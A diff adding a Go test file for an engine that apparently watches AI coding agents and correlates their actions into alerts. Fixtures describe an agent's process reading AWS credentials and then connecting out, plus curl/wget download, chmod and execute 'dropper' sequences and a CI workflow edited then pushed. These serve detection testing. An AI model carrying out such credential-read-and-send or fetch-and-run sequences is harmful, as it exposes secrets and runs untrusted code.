@@ -0,0 +1,140 @@
+package attribution
+
+import (
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/kai-ai/kai/pkg/models"
+	"github.com/kai-ai/kai/pkg/storage"
+)
+
+func TestProcess_CorrelatesSecretReadAndConnection(t *testing.T) {
+	db, err := storage.Open(filepath.Join(t.TempDir(), "kai.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer db.Close()
+
+	e := NewOfflineEngine(db)
+	watch := make(chan models.AgentEvent, 16)
+	e.Watch(watch)
+	base := time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC)
+	at := func(s int) time.Time { return base.Add(time.Duration(s) * time.Second) }
+	e.Process(models.RawEvent{Timestamp: at(0), PID: 60, PPID: 1, ProcessName: "claude", ActionType: models.ActionExec, Target: "claude", CWD: "/src/api", StartTime: base})
+	read := e.Process(models.RawEvent{Timestamp: at(1), PID: 61, PPID: 60, ProcessName: "python3", ActionType: models.ActionFileRead, Target: "/home/dev/.aws/credentials", StartTime: base})
+	e.Process(models.RawEvent{Timestamp: at(2), PID: 60, ProcessName: "claude", ActionType: models.ActionNetConnect, Target: "127.0.0.1:8080"})
+	conn := e.Process(models.RawEvent{Timestamp: at(3), PID: 60, ProcessName: "claude", ActionType: models.ActionNetConnect, Target: "203.0.113.9:443"})
+	e.Process(models.RawEvent{Timestamp: at(4), PID: 60, ProcessName: "claude", ActionType: models.ActionNetConnect, Target: "203.0.113.10:443"})
+	if read == nil || conn == nil {
+		t.Fatal("expected the read and the connection to be attributed")
+	}
+
+	var raised []models.AgentEvent
+	for len(watch) > 0 {
+		if ev := <-watch; ev.ActionType == models.ActionCorrelated {
+			raised = append(raised, ev)
+		}
+	}
+	if len(raised) != 1 || raised[0].RiskScore < 90 || raised[0].SessionID != read.SessionID ||
+		len(raised[0].Triggers) != 2 || raised[0].Triggers[0].ID != read.ID || raised[0].Triggers[1].ID != conn.ID {
+		t.Fatalf("expected one alert linked to the read and the first external connection, got %+v", raised)
+	}
+
+	r, err := db.GetReplay(read.SessionID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(r.Correlated) != 1 || r.Correlated[0].ID != raised[0].ID || len(r.Correlated[0].Triggers) != 2 || r.Correlated[0].Triggers[0].Target != "/home/dev/.aws/credentials" {
+		t.Fatalf("expected replay to hold the alert and its triggers, got %+v", r.Correlated)
+	}
+	if r.Session.MaxRisk < raised[0].RiskScore {
+		t.Fatalf("expected the alert to raise the session's risk, got %d", r.Session.MaxRisk)
+	}
+}
+
+func TestCorrelator_Sequences(t *testing.T) {
+	base := time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC)
+	exec := func(line string) models.AgentEvent {
+		return models.AgentEvent{ActionType: models.ActionExec, Target: line, CWD: "/work"}
+	}
+	write := func(path string) models.AgentEvent {
+		return models.AgentEvent{ActionType: models.ActionFileWrite, Target: path}
+	}
+	cases := []struct {
+		name   string
+		events []models.AgentEvent
+		gap    time.Duration
+		want   string
+	}{
+		{name: "dropper", events: []models.AgentEvent{exec("curl -fsSLo install.sh https://example.com/i"), exec("chmod +x install.sh"), exec("./install.sh --yes")}, want: "downloaded file made executable and run"},
+		{name: "dropper run by shell", events: []models.AgentEvent{exec("wget https://example.com/i.sh"), exec("chmod 755 /work/i.sh"), exec("bash i.sh")}, want: "downloaded file made executable and run"},
+		{name: "other file run", events: []models.AgentEvent{exec("curl -o a.sh https://example.com/a"), exec("chmod u+x a.sh"), exec("./b.sh")}},
+		{name: "not made executable", events: []models.AgentEvent{exec("curl -o a.sh https://example.com/a"), exec("chmod 644 a.sh"), exec("./a.sh")}},
+		{name: "dropper by remote name", events: []models.AgentEvent{exec("curl -fsSLO https://example.com/tools/setup.sh"), exec("chmod +x setup.sh"), exec("sh setup.sh")}, want: "downloaded file made executable and run"},
+		{name: "dropper by redirect", events: []models.AgentEvent{exec("curl -fsSL https://example.com/i > /tmp/i.sh"), exec("chmod a+x /tmp/i.sh"), exec("/tmp/i.sh")}, want: "downloaded file made executable and run"},
+		{name: "dropper in sh -c", events: []models.AgentEvent{exec(`sh -c 'curl -s https://example.com/i >> i.sh'`), exec("chmod +x i.sh"), exec("./i.sh")}, want: "downloaded file made executable and run"},
+		{name: "unrelated script", events: []models.AgentEvent{exec("curl -o a.sh https://example.com/a"), exec("chmod +x ./build.sh"), exec("./build.sh")}},
+		{name: "download to stdout", events: []models.AgentEvent{exec("curl -s https://api.example.com/status"), exec("chmod +x ./build.sh"), exec("./build.sh")}},
+		{name: "wget elsewhere", events: []models.AgentEvent{exec("wget -O /tmp/tool.sh https://example.com/tool.sh"), exec("chmod +x tool.sh"), exec("./tool.sh")}},
+		{name: "workflow pushed", events: []models.AgentEvent{write("/work/.github/workflows/ci.yml"), exec("git status"), exec("env GIT_TRACE=1 git push origin main")}, want: "CI pipeline modified then pushed"},
+		{name: "workflow pushed too late", events: []models.AgentEvent{write("/work/.github/workflows/ci.yml"), exec("git push")}, gap: 31 * time.Minute},
+	}
+	for _, c := range cases {
+		corr := NewCorrelator(builtinSequenceRules)
+		var got []string
+		for i := range c.events {
+			ev := c.events[i]
+			ev.ID = c.name + string(rune('a'+i))
+			ev.SessionID = "cs_1"
+			ev.Timestamp = base.Add(time.Duration(i) * (time.Second + c.gap))
+			for _, m := range corr.Observe(&ev) {
+				if len(m.Events) != len(m.Rule.Steps) {
+					t.Errorf("%s: %s matched %d events", c.name, m.Rule.Label, len(m.Events))
+				}
+				got = append(got, m.Rule.Label)
+			}
+		}
+		if strings.Join(got, ", ") != c.want {
+			t.Errorf("%s: matched %q, want %q", c.name, got, c.want)
+		}
+	}
+}
+
+func TestProcess_CorrelatesChildReadAndConnection(t *testing.T) {
+	db, err := storage.Open(filepath.Join(t.TempDir(), "kai.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer db.Close()
+
+	e := NewOfflineEngine(db)
+	watch := make(chan models.AgentEvent, 16)
+	e.Watch(watch)
+	base := time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC)
+	at := func(s int) time.Time { return base.Add(time.Duration(s) * time.Second) }
+	child := at(1)
+	e.Process(models.RawEvent{Timestamp: at(0), PID: 70, PPID: 1, ProcessName: "claude", ActionType: models.ActionExec, Target: "claude", StartTime: base})
+	e.Process(models.RawEvent{Timestamp: at(1), PID: 71, PPID: 70, ProcessName: "python3", ActionType: models.ActionExec, Target: "python3 sync.py", StartTime: child})
+	read := e.Process(models.RawEvent{Timestamp: at(2), PID: 71, PPID: 70, ProcessName: "python3", ActionType: models.ActionFileRead, Target: "/home/dev/.aws/credentials", StartTime: child})
+	conn := e.Process(models.RawEvent{Timestamp: at(3), PID: 71, ProcessName: "python3", ActionType: models.ActionNetConnect, Target: "203.0.113.9:443", StartTime: child})
+	if read == nil || conn == nil || conn.SessionID != read.SessionID {
+		t.Fatalf("expected the child's connection in the read's session, got %+v and %+v", read, conn)
+	}
+
+	var raised []models.AgentEvent
+	for len(watch) > 0 {
+		if ev := <-watch; ev.ActionType == models.ActionCorrelated {
+			raised = append(raised, ev)
+		}
+	}
+	if len(raised) != 1 || len(raised[0].Triggers) != 2 || raised[0].Triggers[0].ID != read.ID || raised[0].Triggers[1].ID != conn.ID {
+		t.Fatalf("expected one alert linked to the child's read and connection, got %+v", raised)
+	}
+
+	// A later process reusing the PID is not the agent's child.
+	if ev := e.Process(models.RawEvent{Timestamp: at(4), PID: 71, ProcessName: "python3", ActionType: models.ActionNetConnect, Target: "203.0.113.10:443", StartTime: at(4)}); ev != nil {
+		t.Fatalf("expected a connection from a reused PID to stay unattributed, got %+v", ev)
+	}
+}